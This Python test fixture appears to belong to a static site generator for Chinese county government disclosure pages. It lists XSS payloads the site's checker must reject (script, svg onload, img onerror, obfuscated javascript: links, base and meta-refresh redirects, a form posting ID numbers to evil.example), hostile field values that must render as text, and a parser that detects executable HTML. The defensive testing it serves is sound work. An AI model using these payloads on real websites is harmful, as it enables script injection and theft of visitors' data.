"""The XSS corpus: hostile bodies with the problems `check` reports, and hostile values it lets through.

Shared by test_xss.py (check's exact messages; the built HTML) and test_xss_browser.py (the same
sources built with check bypassed, opened in Chromium behind the tested nginx CSP).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

from kit import COUNTY_YML, TOWN_YML, VILLAGE_YML, document

TAG_FIX = (
    "正文的 HTML 只能用这些标签：a、abbr、b、blockquote、br、caption、cite、code、col、colgroup、dd、del、dfn、div、dl、dt、"
    "em、figcaption、figure、h1、h2、h3、h4、h5、h6、hr、i、img、ins、kbd、li、mark、ol、p、pre、q、s、small、span、strong、"
    "sub、sup、table、tbody、td、tfoot、th、thead、time、tr、u、ul；脚本、样式、框架、表单、SVG 等请删除"
)
SCHEME_FIX = "链接只能是 http://、https://、mailto:、tel: 地址，或指向 content/ 中文件的相对链接"
IMAGE_FIX = "图片请放在 content/ 中，用相对链接引用；网站不加载其他网站的图片"
MISSING_FIX = "相对链接只能指向 content/ 中已有的文件、页面或附件；外部网址请写完整的 http(s):// 地址"
REMOVED_FIX = "正文只能用 Markdown 和使用指南「个人信息保护和内容安全」中列出的 HTML 标签、属性和链接"


def attributes_fix(tag: str, names: str) -> str:
    return f"<{tag}> 只能用这些属性：{names}；事件属性（on…）和 style 属性都不能用"


IMG_FIX = attributes_fix("img", "alt、height、id、lang、src、title、width")
A_FIX = attributes_fix("a", "href、id、lang、title")
P_FIX = attributes_fix("p", "id、lang、title")


def tag(name: str) -> tuple[str, str]:
    return f"正文含有不允许的 HTML 标签「<{name}>」", TAG_FIX


def scheme(written: str, found: str) -> tuple[str, str]:
    return f"正文链接「{written}」的协议「{found}:」不允许", SCHEME_FIX


# name → (document body, [(line in the body or None, message, fix)])
REFUSED: dict[str, tuple[str, list[tuple[int | None, str, str]]]] = {
    "svg-onload": ("<svg/onload=alert(1)>", [(1, *tag("svg"))]),
    "onerror-next-line": (
        '第一条　见下图。\n\n<img src="/x.png"\n     onerror="alert(1)">',
        [(4, "正文中 <img> 的属性「onerror」不允许", IMG_FIX)],
    ),
    "img-unquoted-split": (
        "<img src=x\nonerror=alert(1)>",
        [(1, "正文链接「x」指向的文件不存在", MISSING_FIX), (2, "正文中 <img> 的属性「onerror」不允许", IMG_FIX)],
    ),
    "entity-javascript-unquoted": (
        "<a href=&#106;avascript:alert(1)>点这里</a>",
        [(1, *scheme("javascript:alert(1)", "javascript"))],
    ),
    "base-href": ('<base href="https://evil.example/">', [(1, *tag("base"))]),
    "iframe-srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', [(1, *tag("iframe"))]),
    "math-script": (
        "<math><mtext><script>alert(1)</script></mtext></math>",
        [(1, *tag("math")), (1, *tag("mtext")), (1, *tag("script"))],
    ),
    "svg-script": ("<svg><script>alert(1)</script></svg>", [(1, *tag("script")), (1, *tag("svg"))]),
    "template-script": ("<template><script>alert(1)</script></template>", [(1, *tag("script")), (1, *tag("template"))]),
    "uppercase-script": ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", [(1, *tag("script"))]),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', [(1, *tag("meta"))]),
    "form-id-number": (
        '<form action="https://evil.example/collect">\n<input name="身份证号">\n<button>提交</button>\n</form>',
        [(1, *tag("form")), (2, *tag("input")), (3, *tag("button"))],
    ),
    "object-data": ('<object data="https://evil.example/x.swf"></object>', [(1, *tag("object"))]),
    "style-import": ("<style>@import url(https://evil.example/x.css);</style>", [(1, *tag("style"))]),
    "style-attribute": (
        '<p style="background:url(https://evil.example/x.png)">正文</p>',
        [(1, "正文中 <p> 的属性「style」不允许", P_FIX)],
    ),
    "event-on-link": (
        '<a href="https://www.gov.cn/" onmouseover="alert(1)">国务院</a>',
        [(1, "正文中 <a> 的属性「onmouseover」不允许", A_FIX)],
    ),
    "srcset": (
        '<img src="/a.png" srcset="https://evil.example/a.png 2x">',
        [(1, "正文中 <img> 的属性「srcset」不允许", IMG_FIX)],
    ),
    "markdown-javascript": ("[点这里](javascript:alert(1))", [(1, *scheme("javascript:alert(1)", "javascript"))]),
    "markdown-entity-colon": (
        "[点这里](JaVaScRiPt&colon;alert(1))",
        [(1, *scheme("JaVaScRiPt&colon;alert(1)", "javascript"))],
    ),
    "markdown-entity-tab": (
        "[点这里](java&#x09;script:alert(1))",
        [(1, *scheme("java&#x09;script:alert(1)", "javascript"))],
    ),
    "reference-javascript": (
        "[点这里][r]\n\n[r]: javascript:alert(1)",
        [(3, *scheme("javascript:alert(1)", "javascript"))],
    ),
    "data-html": (
        '<a href="data:text/html,<script>alert(1)</script>">点这里</a>',
        [(1, *scheme("data:text/html,<script>alert(1)</script>", "data"))],
    ),
    "vbscript": ('<a href="vbscript:msgbox(1)">点这里</a>', [(1, *scheme("vbscript:msgbox(1)", "vbscript"))]),
    "unknown-scheme": ("[点这里](x-evil:open)", [(1, *scheme("x-evil:open", "x-evil"))]),
    "network-path": (
        "[点这里](//evil.example/)",
        [(1, "正文链接「//evil.example/」缺少协议（以 // 开头）", SCHEME_FIX)],
    ),
    "external-image": (
        "![图](https://evil.example/track.png)",
        [(1, "正文图片「https://evil.example/track.png」不是本站的文件", IMAGE_FIX)],
    ),
    "data-image": ("![图](data:image/svg+xml,x)", [(1, "正文图片「data:image/svg+xml,x」不是本站的文件", IMAGE_FIX)]),
    "attr-list": (
        '## 第一条 {: onclick="alert(1)" }',
        [
            (
                1,
                '正文的属性列表「{: onclick="alert(1)" }」含有不允许的属性「onclick」',
                "属性列表只能写锚点，例如 {#第一条}",
            )
        ],
    ),
    "dom-clobbering": (
        '<div id="__config">正文</div>',
        [(1, "正文中的锚点「__config」与网页自身的元素重名", "锚点（id）不能以 __、md-、gk- 开头")],
    ),
    "autolink-javascript": ("<javascript:alert(1)>", [(1, *tag("javascript:alert(1)"))]),
    "nested-brackets": ("[点[这[里]]](javascript:alert(1))", [(1, *scheme("javascript:alert(1)", "javascript"))]),
    # Not seen by the located checks (an image by reference): refused because the sanitiser would remove
    # it from the rendered body, without a line.
    "image-by-reference": (
        "![图][r]\n\n[r]: https://evil.example/track.png",
        [(None, "正文转换成网页后，<img> 的属性「src」（https://evil.example/track.png）会被删除", REMOVED_FIX)],
    ),
}

ALLOWED_BODY = """\
第一条　代码中的 HTML 显示为文字：`<script>alert(1)</script>`、`<img src=x onerror=alert(1)>`。

```html
<svg onload="alert(1)"></svg>
```

| 项目 | 标准 |
|:--|--:|
| 耕地地力保护 | 110元/亩 |

<table><tr><td colspan="2" align="center">合计</td></tr></table>

[国务院](https://www.gov.cn/ "中国政府网")、[邮箱](mailto:xxgk@ceshi.example.cn)、[电话](tel:0550-7011234)、[本页](#第一条)。

## 第二条 {#第二条}

x < y & y > z；&lt;script&gt; 是文字。
"""
"""A body with everything a clerk may legitimately write that looks like HTML: it passes check and
renders with nothing removed."""

# Values that may hold <, > and quotes (a title may quote an HTML tag; a CMS title decoded from &lt;…&gt;):
# check lets them through, the site shows them as text.
HOSTILE_TITLE = "关于</title><script>alert(1)</script>的通知"
ENTITY_TITLE = "&lt;script&gt;alert(1)&lt;/script&gt;通知"
SITE_NAME = "测试县</title><script>alert(1)</script>信息公开网"
SPONSOR = "<script>alert(1)</script>办公室"
ADDRESS = '"><img src=x onerror=alert(1)>路1号'
TOWN = "城关镇<img src=x onerror=alert(1)>"
VILLAGE = "上溪村<svg onload=alert(1)>"
PAGE_TITLE = "</title><script>alert(2)</script>"
PAGE_SUMMARY = '"><script>alert(3)</script>'


def _quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def inert_values() -> dict[str, str | bytes | None]:
    """County changes: hostile values in every field that reaches a page, all allowed by check."""
    county = (
        COUNTY_YML.replace("网站名称: 测试县人民政府信息公开网", f"网站名称: {_quoted(SITE_NAME)}")
        .replace("主办单位: 测试县人民政府办公室", f"主办单位: {_quoted(SPONSOR)}")
        .replace("联系地址: 测试县城关镇人民路 1 号", f"联系地址: {_quoted(ADDRESS)}")
    )
    return {
        "county.yml": county,
        "villages/chengguan/town.yml": TOWN_YML.replace("名称: 城关镇\n", f"名称: {_quoted(TOWN)}\n"),
        "villages/chengguan/shangxi/village.yml": VILLAGE_YML.replace("名称: 上溪村", f"名称: {_quoted(VILLAGE)}"),
        "content/documents/2026/xss-title.md": document(
            _quoted(HOSTILE_TITLE), "11341700MB1714830K/202603-00010", kind="通知公告", body=ALLOWED_BODY
        ),
        "content/documents/2026/xss-entity.md": document(
            _quoted(ENTITY_TITLE), "11341700MB1714830K/202603-00011", kind="通知公告"
        ),
        "content/xxgk/zhinan.md": (
            f"---\n标题: {_quoted(PAGE_TITLE)}\n内容概述: {_quoted(PAGE_SUMMARY)}\n---\n"
            "# 指南 &lt;img src=x onerror=alert(1)&gt;\n\n" + ALLOWED_BODY
        ),
    }


class _Page(HTMLParser):
    """The parts of a built page that could run a script, its <title> and its <h1> text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.executable: list[str] = []
        self.title = self.h1 = ""
        self.description: str | None = None
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and not values.get("src") and values.get("type") != "application/json":
            self.executable.append("inline <script>")
        if tag == "script" and values.get("src") and not re.match(r"/?(\.\./)*(assets|pagefind)/", values["src"] or ""):
            self.executable.append(f"<script src={values['src']}>")
        if tag in ("base", "iframe", "object", "embed", "frame") or (tag == "meta" and values.get("http-equiv", "").lower() == "refresh"):
            self.executable.append(f"<{tag}>")
        self.executable += [f"<{tag} {name}>" for name, _ in attrs if name.startswith("on")]
        if tag == "meta" and values.get("name") == "description":
            self.description = values.get("content")
        if tag in ("title", "h1"):
            self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] == tag:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if "title" in self._in:
            self.title += data
        if "h1" in self._in:
            self.h1 += data


def read_page(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


def executable_parts(site: Path) -> list[str]:
    """Every inline script, foreign script, event attribute, <base>, frame or meta refresh in the site's pages."""
    return [f"{p.relative_to(site)}: {what}" for p in sorted(site.rglob("*.html")) for what in read_page(p).executable]
